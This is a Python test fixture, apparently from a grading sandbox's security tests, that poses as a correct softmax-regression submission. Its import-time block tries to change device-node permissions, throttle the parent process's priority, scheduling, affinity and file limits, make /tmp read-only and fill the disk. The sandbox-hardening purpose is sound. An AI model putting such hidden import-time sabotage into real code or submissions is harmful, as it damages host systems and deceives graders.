"""A hostile file that is otherwise correct: at import it tries, and fails, to change
the host's device nodes, the zygote's priority, scheduling, affinity and limits, the
scratch root, and to leave a filled, sealed scratch behind. Its functions are correct, so
it grades 100/100, and so does the next submission. (tests/security/test_after_attacks.py)
"""

import os
import resource

import numpy as np


def _attempt(action):
    try:
        action()
    except (OSError, ValueError):
        pass


for _action in (
    lambda: os.chmod("/dev/null", 0),
    lambda: os.chmod("/dev/full", 0o600),
    lambda: os.chown("/dev/null", 12345, 12345),
    lambda: os.setxattr("/dev/null", "user.pwned", b"1"),
    lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
    lambda: os.setpriority(os.PRIO_USER, 0, 19),
    lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.sched_setaffinity(os.getppid(), {0}),
    lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (8, 8)),
    lambda: os.chmod("/tmp", 0o555),
    lambda: os.chmod(".", 0o555),
    lambda: os.mkdir("sealed", 0),
):
    _attempt(_action)
for _i in range(5):
    _attempt(lambda i=_i: open(f"fill-{i}", "wb").write(b"0" * (15 * 2**20)))


def softmax(scores):
    shifted = scores - np.max(scores, axis=1, keepdims=True)
    exps = np.exp(shifted)
    return exps / np.sum(exps, axis=1, keepdims=True)


def quality(probs, labels):
    n = probs.shape[0]
    correct = probs[np.arange(n), labels]
    return float(np.exp(np.mean(np.log(correct))))


def cross_entropy(scores, labels):
    n = scores.shape[0]
    shifted = scores - np.max(scores, axis=1, keepdims=True)
    log_probs = shifted - np.log(np.sum(np.exp(shifted), axis=1, keepdims=True))
    return float(-np.mean(log_probs[np.arange(n), labels]))


def cross_entropy_grad(W, b, X, labels):
    n = X.shape[0]
    probs = softmax(X @ W.T + b)
    Y = np.zeros_like(probs)
    Y[np.arange(n), labels] = 1
    E = (probs - Y) / n
    dW = E.T @ X
    db = E.sum(axis=0)
    return dW, db


def sgd_step(W, b, dW, db, lr):
    return W - lr * dW, b - lr * db


def lr_schedule(t, lr0=2.5, decay=0.5, every=10):
    return lr0 * decay ** (t // every)


def train_sgd(X, labels, num_classes, lr=0.1, batch_size=200, num_iters=200, seed=0):
    n, d = X.shape
    W = np.zeros((num_classes, d), dtype=X.dtype)
    b = np.zeros(num_classes, dtype=X.dtype)
    rng = np.random.default_rng(seed)
    losses = []
    for _ in range(num_iters):
        idx = rng.choice(n, size=batch_size, replace=False)
        X_batch, labels_batch = X[idx], labels[idx]
        losses.append(cross_entropy(X_batch @ W.T + b, labels_batch))
        dW, db = cross_entropy_grad(W, b, X_batch, labels_batch)
        W, b = sgd_step(W, b, dW, db, lr)
    return W, b, losses
